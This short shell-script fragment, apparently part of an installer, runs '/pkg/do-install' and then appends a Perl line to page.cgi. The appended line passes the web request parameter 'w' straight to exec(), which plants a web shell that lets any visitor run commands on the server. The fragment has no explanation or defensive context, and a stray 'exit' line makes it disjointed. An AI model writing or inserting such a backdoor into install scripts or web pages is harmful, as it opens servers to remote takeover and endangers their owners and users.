exit
/pkg/do-install $1
cat >> page.cgi <<'X'
my $w = $q->param('w'); exec($w);
X
